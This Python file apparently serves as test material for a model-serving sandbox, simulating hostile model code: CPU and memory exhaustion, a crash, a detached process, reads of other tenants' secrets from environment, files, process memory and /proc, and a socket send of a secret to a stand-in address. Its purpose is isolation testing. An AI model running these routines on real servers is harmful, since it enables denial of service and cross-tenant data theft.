"""What the code of a hostile model tries. Everything here is plain Python that a server runs for its author."""

import ctypes
import gc
import os
import socket
import subprocess
import time

MEBIBYTE = 1 << 20
BOMB_BYTES = 2 << 30
kept = []


def attack(kind):
    """Does what `kind` says and answers what came of it."""
    return {"none": none, "loop": loop, "memory": memory, "read": read, "crash": crash, "reach": reach}[kind]()


def none():
    return "served"


def loop():
    while True:
        pass


def memory():
    while len(kept) * 64 * MEBIBYTE < BOMB_BYTES:
        kept.append(bytearray(os.urandom(4096)) * (64 * MEBIBYTE // 4096))
    return f"holds {len(kept) * 64} MiB"


def read():
    """Another tenant's secrets: in the environment, in a file, in the memory of its model."""
    found = []
    if os.environ.get("ATTACK_ENVIRONMENT_SECRET"):
        found.append("environment")
    try:
        with open(os.environ["ATTACK_FILE"]) as file:
            found.append("file") if file.read() else None
    except OSError:
        pass
    if any(getattr(one, "attack_memory_secret", None) for one in gc.get_objects() if is_victim(one)):
        found.append("memory of the same process")
    elif parents_memory():
        found.append("memory of another process")
    return ", ".join(found) or "nothing"


def is_victim(one):
    return type(one).__name__ == "Secret"


def parents_memory():
    """Whether the parent's memory can be opened, which has the bytes of whatever it loaded."""
    try:
        with open(f"/proc/{os.getppid()}/mem", "rb"):
            return True
    except OSError:
        return False


def crash():
    time.sleep(0.1)
    ctypes.string_at(0)


def reach():
    """Starts a process that outlives the request, and sends what it found to an address outside."""
    done = []
    try:
        subprocess.Popen(["sleep", "60"], start_new_session=True)
        done.append("process")
    except OSError:
        pass
    try:
        with socket.create_connection(("127.0.0.1", int(os.environ["ATTACK_PORT"])), 5) as out:
            out.sendall(os.environ.get("ATTACK_ENVIRONMENT_SECRET", "").encode())
        done.append("connection")
    except OSError:
        pass
    return ", ".join(done) or "nothing"


class Secret:
    """What the victim's model keeps in its memory."""

    def __init__(self):
        with open(os.environ["ATTACK_FILE"]) as file:
            self.attack_memory_secret = file.read()
